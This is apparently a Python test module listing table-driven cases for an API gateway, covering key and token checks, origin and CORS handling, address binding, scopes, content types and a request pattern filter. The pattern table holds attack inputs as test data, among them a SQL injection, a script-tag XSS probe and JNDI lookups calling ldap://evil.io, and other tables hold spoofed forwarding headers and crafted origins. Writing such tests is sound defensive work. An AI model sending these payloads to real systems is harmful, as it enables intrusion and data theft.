"""The tables: what is accepted and what is refused, one line a case, none of which needs another.

A text in braces stands for a secret or a token (`sites.made`, `sites.tokens`). Envoy leaves one line of a header that
came twice, or joins both, and drops a Referer that is none; nginx refuses some by itself: where that changes the
answer, a case says so.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final

from tests.credentials.sites import BOUND, FENCED, PASSES
from tests.servers import Headers, pairs

MISSING: Final = (401, "credential_missing")
INVALID: Final = (401, "credential_invalid")
MALFORMED: Final = (400, "malformed")
KIND: Final = (403, "kind")
ORIGIN: Final = (403, "origin")
SCOPE: Final = (403, "scope")
OK: Final = (200, "")
BY_ITSELF: Final = (400, "")
"""What a proxy refuses without asking."""

Outcome = tuple[int, str]


@dataclass(frozen=True)
class Case:
    """A request, and its outcome: the status that the gate means, and the reason of a refusal."""

    says: str
    outcome: Outcome
    target: str = "/mine"
    headers: Headers = ()
    method: str = "GET"
    body: bytes | None = None
    address: str | None = None
    tls: str = "1.3"
    envoy: Outcome | None = None
    nginx: Outcome | None = None

    def __str__(self) -> str:
        return self.says

    def outcome_at(self, kind: str) -> Outcome:
        return {"envoy": self.envoy, "nginx": self.nginx}.get(kind) or self.outcome


def key(key_id: str, secret: str = "") -> dict[str, str]:
    """`<id>.<secret>` in one header; the secret is the key's own unless it is named."""
    return {"X-Api-Key": f"{key_id}.{{{secret or key_id}}}"}


def pair(key_id: str, secret: str = "") -> dict[str, str]:
    return {"X-App-Id": key_id, "X-App-Token": f"{{{secret or key_id}}}"}


def bearer(text: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {text}"}


def client(key_id: str, origin: str | None = None, secret: str = "") -> dict[str, str]:
    said = {"X-Client-Application-Id": key_id, "X-Client-Token": f"{{{secret or key_id}}}"}
    return said if origin is None else said | {"Origin": origin}


def both(*lines: Mapping[str, str]) -> list[tuple[str, str]]:
    return [each for headers in lines for each in pairs(headers)]


SERVER_KEYS: Final = (
    Case("two headers", OK, headers=pair("shop")),
    Case("one header", OK, headers=key("shop")),
    Case("bearer", OK, headers=bearer("shop.{shop}")),
    Case("bearer without case", OK, headers={"authorization": "bEARER shop.{shop}"}),
    Case("an empty header beside", OK, headers=pair("shop") | {"X-Api-Key": ""}),
    Case("basic beside", OK, headers=key("shop") | {"Authorization": "Basic YTpi"}),
    Case("nothing", MISSING),
    Case("basic alone", MISSING, headers={"Authorization": "Basic YTpi"}),
    Case("a wrong secret", INVALID, headers=key("shop", "wrong")),
    Case("a wrong secret in two headers", INVALID, headers=pair("shop", "wrong")),
    Case("a wrong secret as bearer", INVALID, headers=bearer("shop.{wrong}")),
    Case("another's secret", INVALID, headers=key("shop", "reader")),
    Case("no secret's form", INVALID, headers={"X-Api-Key": "shop.hunter2"}),
    Case("a secret and more", INVALID, headers={"X-Api-Key": "shop.{shop}x"}),
    Case("an unknown id", INVALID, headers=key("nosuch", "wrong")),
    Case("an unknown id with a good secret", INVALID, headers=key("nosuch", "shop")),
    Case("an id in capitals", INVALID, headers=key("SHOP", "shop")),
    Case("an odd id", INVALID, headers=key("../shop", "shop")),
    Case("an id alone", INVALID, headers={"X-Api-Key": "shop"}),
    Case("a secret alone", INVALID, headers={"X-Api-Key": "{shop}"}),
    Case("half a pair: the id", INVALID, headers={"X-App-Id": "shop"}),
    Case("half a pair: the secret", INVALID, headers={"X-App-Token": "{shop}"}),
    Case("a pair with an empty secret", INVALID, headers={"X-App-Id": "shop", "X-App-Token": ""}),
    Case(
        "a whole key in the place of the secret",
        INVALID,
        headers={"X-App-Id": "shop", "X-App-Token": "shop.{shop}"},
    ),
    Case("an empty bearer", INVALID, headers={"Authorization": "Bearer"}),
    Case("two ways", MALFORMED, headers=key("shop") | pair("shop")),
    Case("two ways, one of them wrong", MALFORMED, headers=key("shop") | bearer("shop.{wrong}")),
    Case("a server's and a client's", MALFORMED, headers=pair("shop") | client("anybody")),
    Case("key twice", MALFORMED, headers=both(key("shop"), key("reader")), envoy=OK),
    Case(
        "key twice, the wrong one first",
        MALFORMED,
        headers=both(key("shop", "wrong"), key("shop")),
        envoy=INVALID,
    ),
    Case("id twice", MALFORMED, headers=both(pair("shop"), {"X-App-Id": "reader"}), envoy=OK),
    Case("secret twice", MALFORMED, headers=both(pair("shop"), {"X-App-Token": "{reader}"}), envoy=OK),
    Case(
        "bearer twice",
        MALFORMED,
        headers=both(bearer("shop.{shop}"), bearer("shop.{shop}")),
        envoy=INVALID,
        nginx=BY_ITSELF,
    ),
    Case("disabled", (403, "credential_disabled"), headers=key("off")),
    Case("disabled, with a wrong secret", INVALID, headers=key("off", "wrong")),
    Case("expired", INVALID, headers=key("over")),
    Case("rotated with grace: the new secret", OK, headers=key("turned")),
    Case("rotated with grace: the old one", OK, headers=key("turned", "turned-before")),
    Case("rotated without: the new secret", OK, headers=pair("cut")),
    Case("rotated without: the old one", INVALID, headers=pair("cut", "cut-before")),
    Case("deleted", INVALID, headers=key("gone")),
)

SHOP: Final = "https://shop.example"
PAGE: Final = "/shop/1"

CLIENT_KEYS: Final = (
    Case("its own headers", OK, PAGE, client("page", SHOP)),
    Case("a method that is opened", OK, PAGE, client("page", SHOP), method="PUT", body=b""),
    Case("a method that is not", (405, "method"), PAGE, client("page", SHOP), method="DELETE"),
    Case("a path that is not opened", KIND, "/mine", client("anybody")),
    Case("a path for servers and strangers", KIND, "/search", client("anybody")),
    Case("a path for strangers alone", KIND, "/join", client("anybody")),
    Case("a public path", OK, "/login", client("anybody")),
    Case("a path that nobody opened", (403, "not_opened"), "/elsewhere", key("shop")),
    Case("a scope that it lacks", SCOPE, "/shop/cart", client("page", SHOP)),
    Case("a scope that it has", OK, "/shop/cart", client("anybody")),
    Case("a wrong secret", INVALID, PAGE, client("page", SHOP, "wrong")),
    Case("an unknown id", INVALID, PAGE, client("nosuch", SHOP, "page")),
    Case("half of it", INVALID, PAGE, {"X-Client-Token": "{page}", "Origin": SHOP}),
    Case("disabled", (403, "credential_disabled"), PAGE, client("app-off")),
    Case("in a server's one header", KIND, PAGE, key("anybody")),
    Case("in a server's two headers", KIND, PAGE, pair("anybody")),
    Case("as bearer", KIND, PAGE, bearer("anybody.{anybody}")),
    Case("in a server's place where all may pass", KIND, "/login", pair("anybody")),
    Case("a server's in a client's place", KIND, PAGE, client("shop", SHOP)),
    Case("a server's in a client's place, on a server's path", KIND, "/mine", client("shop")),
    Case("a server's key on a client's path", OK, PAGE, key("shop")),
    Case("a server's key on a client's path, from a page", OK, "/shop/embedded", key("shop") | {"Origin": "https://evil.example"}),
    Case("a path that is opened to clients alone", OK, "/mobile", client("anybody")),
    Case("a server's key there", KIND, "/mobile", key("shop")),
)  # fmt: skip


def _origins(key_id: str, outcome: Outcome, *origins: str | None, target: str = PAGE) -> list[Case]:
    return [Case(f"{key_id} from {origin}", outcome, target, client(key_id, origin)) for origin in origins]


ORIGINS: Final = (
    *_origins("page", OK, SHOP, "http://shop.example", "https://shop.example:8443", "http://shop.example:8080"),
    *_origins(
        "page",
        ORIGIN,
        None,
        "null",
        "https://www.shop.example",
        "https://a.shop.example",
        "https://shop.example.evil.io",
        "https://evilshop.example",
        "https://shop.example.",
        "https://Shop.example",
        "HTTPS://shop.example",
        "https://shop.example/",
        "https://shop.example/page",
        "https://shop.example?",
        "https://shop.example:443",
        "https://shop.example:",
        "https://shop.example:0443",
        "https://shop.example@evil.io",
        "https://evil.io#shop.example",
        "https://evil.io\\shop.example",
        "https://shop.example%00.evil.io",
        "https://xn--shp-sna.example",
        "https://sh\u00f6p.example",
        "https://shop.example https://evil.io",
        "https://evil.io, https://shop.example",
        "//shop.example",
        "shop.example",
        "https://",
        "*",
        "https://*",
        "https://shop_example",
        "file://",
    ),
    *_origins("subs", OK, "https://www.shop.example", "https://a.b.shop.example", "http://www.shop.example:81"),
    *_origins("subs", ORIGIN, SHOP, "https://evilshop.example", "https://www.shop.example.evil.io", "https://.shop.example",
              "https://www.Shop.example", "https://www.shop.example.", None, "null"),
    *_origins("secure", OK, SHOP),
    *_origins("secure", ORIGIN, "http://shop.example", "https://shop.example:8443", "https://www.shop.example", None),
    *_origins("port", OK, "https://shop.example:8443"),
    *_origins("port", ORIGIN, SHOP, "http://shop.example:8443", "https://shop.example:84430", "https://shop.example:08443"),
    *_origins("puny", OK, "https://xn--bcher-kva.example"),
    *_origins("puny", ORIGIN, "https://b\u00fccher.example", "https://bucher.example", "https://XN--BCHER-KVA.example"),
    *_origins("anybody", OK, None, "null", SHOP, "https://Shop.example.", "https://evil.io"),
    # A filter's origins hold besides.
    *_origins("anybody", OK, "https://www.example.com", "https://pay.example", target="/shop/embedded"),
    *_origins("anybody", ORIGIN, None, "null", "https://example.com", "http://pay.example", target="/shop/embedded"),
    *_origins("page", ORIGIN, SHOP, "https://www.example.com", target="/shop/embedded"),
    Case("two origins", MALFORMED, PAGE, [*client("page", SHOP).items(), ("Origin", "https://evil.io")], envoy=ORIGIN),
)  # fmt: skip


def _preflight(origin: str, method: str = "PUT") -> dict[str, str]:
    asked = {"Origin": origin, "Access-Control-Request-Headers": "x-client-application-id, x-client-token"}
    return asked | ({"Access-Control-Request-Method": method} if method else {})


def _asks(
    says: str, outcome: Outcome, target: str, headers: Mapping[str, str], *, method: str = "OPTIONS"
) -> Case:
    return Case(f"preflight {says}", outcome, target, headers, method=method)


PREFLIGHTS: Final = (
    _asks("of a page", OK, PAGE, _preflight(SHOP)),
    _asks("of any page where only keys know origins", OK, PAGE, _preflight("https://evil.io")),
    _asks("of an allowed page", OK, "/shop/embedded", _preflight("https://www.example.com")),
    _asks("of another page", ORIGIN, "/shop/embedded", _preflight("https://evil.io")),
    _asks("of no page", ORIGIN, "/shop/embedded", _preflight("null")),
    _asks("for a method that is not opened", (405, "method"), PAGE, _preflight(SHOP, "DELETE")),
    _asks("where scopes are demanded", OK, "/shop/cart", _preflight(SHOP)),
    _asks("for a method by which a path is opened", OK, "/mobile", _preflight(SHOP, "PUT")),
    _asks("for another method there", MISSING, "/mobile", _preflight(SHOP, "DELETE")),
    _asks("that announces nothing", (405, "method"), PAGE, _preflight(SHOP, "")),
    _asks("that is none", MISSING, PAGE, _preflight(SHOP), method="GET"),
    _asks("where clients may not pass", MISSING, "/mine", _preflight(SHOP)),
    _asks("where everybody may", OK, "/login", _preflight(SHOP)),
    _asks("with a key, which makes it none", (405, "method"), PAGE, _preflight(SHOP) | key("shop", "wrong")),
)

ELSEWHERE: Final = (403, "credential_address")

ADDRESSES: Final = (
    Case("a key from its network", OK, headers=key("bound"), address=BOUND),
    Case("a key from its network's end", OK, headers=pair("bound"), address="127.7.255.254"),
    Case("a key from elsewhere", ELSEWHERE, headers=key("bound")),
    Case("a key from just beside", ELSEWHERE, headers=key("bound"), address="127.6.255.255"),
    Case("a key from elsewhere, which says otherwise", ELSEWHERE, headers=key("bound") | {
        "X-Forwarded-For": BOUND, "X-Real-IP": BOUND, "Forwarded": f"for={BOUND}", "True-Client-IP": BOUND}),
    Case("a wrong key from elsewhere", INVALID, headers=key("bound", "wrong")),
    Case("a tenant's key from its network", OK, headers=key("fenced"), address=FENCED),
    Case("a tenant's key from elsewhere", ELSEWHERE, headers=key("fenced")),
    Case("both networks", OK, headers=key("doubly"), address="127.8.1.7"),
    Case("the tenant's network alone", ELSEWHERE, headers=key("doubly"), address=FENCED),
)  # fmt: skip

IN_QUERY: Final = (400, "credential_in_query")

_SPELLINGS = (
    "api_key", "apikey", "api-key", "access_token", "app_token", "client_secret", "API_KEY", "Api-Key", "%61pi_key",
    "api%5Fkey", "api%5fkey", "+api_key", "api_key+", "api_key%20", "api_key[]", "api_key%5B0%5D", "x=1&api_key",
    "x=1;api_key", "api_key%00",
)  # fmt: skip

QUERIES: Final = (
    *(Case(f"query {name}", IN_QUERY, f"/mine?{name}={{shop}}", key("shop")) for name in _SPELLINGS),
    Case("query alone, as the only credential", IN_QUERY, "/mine?api_key=shop.{shop}"),
    Case("query of a public path", IN_QUERY, "/login?access_token={token}"),
    Case("query without a value", IN_QUERY, "/mine?api_key", key("shop")),
    Case("query with another name", OK, "/mine?my_api_key_id=7&apikeys=1", key("shop")),
    Case("query with a name for a value", OK, "/mine?sort=api_key", key("shop")),
    Case("query with an encoded separator", OK, "/mine?q=a%26api_key=1", key("shop")),
    Case("a path with the name", OK, "/orders/api_key=1", key("shop")),
)

SCOPES: Final = (
    Case("a scope for reading", OK, "/orders/1", key("reader")),
    Case("a scope for writing that it lacks", SCOPE, "/orders/1", key("reader") | {"Content-Type": "application/json"},
         "POST", b"{}"),
    Case("both scopes, writing", OK, "/orders/1", key("shop") | {"Content-Type": "application/json"}, "POST", b"{}"),
    Case("a role's scope", OK, "/orders/1", key("editor")),
    Case("a role's other scope", OK, "/orders/1", key("editor") | {"Content-Type": "application/json"}, "POST", b"{}"),
    Case("a role that nobody defined", SCOPE, "/orders/1", key("nobody")),
    Case("no scope", SCOPE, "/orders/1", key("plain")),
    Case("no key", MISSING, "/orders/1"),
    Case("nobody opened it", (403, "not_opened"), "/", key("shop")),
    Case("nobody opened it, and no key", MISSING, "/"),
    Case("opened to a plan", OK, "/golden", key("golden")),
    Case("opened to another plan", (403, "not_opened"), "/golden", key("plain")),
    Case("a public path without a key", OK, "/login"),
    Case("a public path with a key", OK, "/login", key("shop")),
    Case("a public path with a wrong key", INVALID, "/login", key("shop", "wrong")),
    Case("a path for strangers", OK, "/join"),
    Case("a path for strangers, with a key", KIND, "/join", key("shop")),
    Case("a path beside a public one", (401, "credential_missing"), "/loginx"),
    Case("a public path in other letters", (401, "credential_missing"), "/LOGIN"),
    Case("attack mode of the key", (503, "attack_mode"), headers=key("struck")),
    Case("attack mode of the key, from where it passes", OK, headers=key("struck"), address=PASSES),
    Case("attack mode of the key, with a wrong secret", INVALID, headers=key("struck", "wrong")),
    Case("attack mode of the tenant", (503, "attack_mode"), headers=pair("sieged")),
    Case("attack mode of another tenant", OK, headers=pair("one-of-acme")),
)  # fmt: skip

TOKENS: Final = (
    Case("a token", OK, headers=bearer("{token}")),
    Case("a token with its scope", OK, "/orders/1", bearer("{token}")),
    Case("a token without the scope", SCOPE, "/orders/1", bearer("{token}") | {"Content-Type": "application/json"},
         "POST", b"{}"),
    Case("a token's plan", OK, "/golden", bearer("{token}")),
    Case("a token in the header of keys", INVALID, headers={"X-Api-Key": "{token}"}),
    Case("a token in a pair", INVALID, headers={"X-App-Id": "idp", "X-App-Token": "{token}"}),
    *(Case(name, INVALID, headers=bearer(f"{{{name}}}")) for name in (
        "token-over", "token-early", "token-elsewhere", "token-of-others", "token-endless", "token-forged",
        "token-unknown-key", "token-path-in-key", "token-own-key", "token-critical", "token-unsigned", "token-cut",
        "token-swapped")),
)  # fmt: skip

TYPE: Final = (415, "content_type")
JSON: Final = "application/json"


def _sent(
    outcome: Outcome,
    *types: str,
    target: str = "/orders/1",
    body: bytes = b"{}",
    envoy: Outcome | None = None,
) -> Case:
    headers = [*key("shop").items(), *(("Content-Type", each) for each in types)]
    return Case(f"a body as {types} to {target}", outcome, target, headers, "POST", body, envoy=envoy)


CONTENT: Final = (
    _sent(OK, JSON),
    _sent(OK, "Application/JSON; charset=utf-8"),
    _sent(OK, 'application/json;a="b;c"'),
    _sent(TYPE),
    _sent(TYPE, ""),
    _sent(TYPE, "text/plain"),
    _sent(TYPE, "application/json-patch"),
    _sent(TYPE, "application/problem+json"),
    _sent(TYPE, "application/json, text/plain"),
    _sent(TYPE, "text/plain; application/json"),
    _sent(MALFORMED, JSON, JSON, envoy=TYPE),
    _sent(OK, "application/problem+json", target="/documents"),
    _sent(OK, "text/plain", target="/documents"),
    _sent(TYPE, JSON, target="/documents"),
    _sent(TYPE, "application/json+xml", target="/documents"),
    Case("no body, no type", OK, "/orders/1", key("shop")),
    Case("a method that is not allowed", (405, "method"), "/orders/1", key("shop"), "DELETE"),
    Case("as long as may be", OK, "/orders/1", key("shop") | {"Content-Type": JSON}, "POST", b"x" * 1000),
    Case("longer", (413, "body_size"), "/orders/1", key("shop") | {"Content-Type": JSON}, "POST", b"x" * 1001),
    Case("of no length that is known", (413, "body_size"), "/orders/1",
         key("shop") | {"Content-Type": JSON, "Transfer-Encoding": "chunked"}, "POST", b"2\r\n{}\r\n0\r\n\r\n"),
    Case("new TLS", OK, "/modern", key("shop")),
    Case("old TLS", (403, "tls_version"), "/modern", key("shop"), tls="1.2"),
    Case("old TLS elsewhere", OK, "/mine", key("shop"), tls="1.2"),
    Case("old TLS that says otherwise", (403, "tls_version"), "/modern", key("shop") | {"X-Original-TLS": "TLSv1.3"},
         tls="1.2"),
)  # fmt: skip

PATTERN: Final = (403, "pattern")

PATTERNS: Final = (
    Case("a search", OK, "/search?q=select+a+union+near+you"),
    Case("sql", PATTERN, "/search?q=1'+UNION+SELECT+password+FROM+users--"),
    Case("sql of a known key", PATTERN, "/search?q=1'+UNION+SELECT+password+FROM+users--", key("shop")),
    Case("a script", PATTERN, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    Case("a lookup", PATTERN, "/search?q=$%7Bjndi:ldap://evil.io/a%7D"),
    Case("a lookup in a header", PATTERN, "/search", {"User-Agent": "${{jndi:ldap://evil.io/a}}"}),
    Case("a referer that is no URL", PATTERN, "/search", {"Referer": "${{jndi:ldap://evil.io/a}}"}, envoy=OK),
    Case("a scanner", PATTERN, "/search", {"User-Agent": "sqlmap/1.7"}),
    Case("a browser", OK, "/search", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0"}),
    Case("one's own pattern, below the threshold", OK, "/search?q=evilbot"),
    Case("one's own pattern", PATTERN, "/bots?q=EvilBot"),
    Case("one's own pattern in a header", PATTERN, "/bots", {"User-Agent": "EvilBot/2"}),
    Case("a pattern that is only watched", OK, "/watched?q=%3Cscript%3Ealert(1)%3C/script%3E", key("shop")),
)  # fmt: skip

TABLES: Final = {
    "server": SERVER_KEYS,
    "client": CLIENT_KEYS,
    "origin": ORIGINS,
    "preflight": PREFLIGHTS,
    "address": ADDRESSES,
    "query": QUERIES,
    "scope": SCOPES,
    "token": TOKENS,
    "content": CONTENT,
    "pattern": PATTERNS,
}
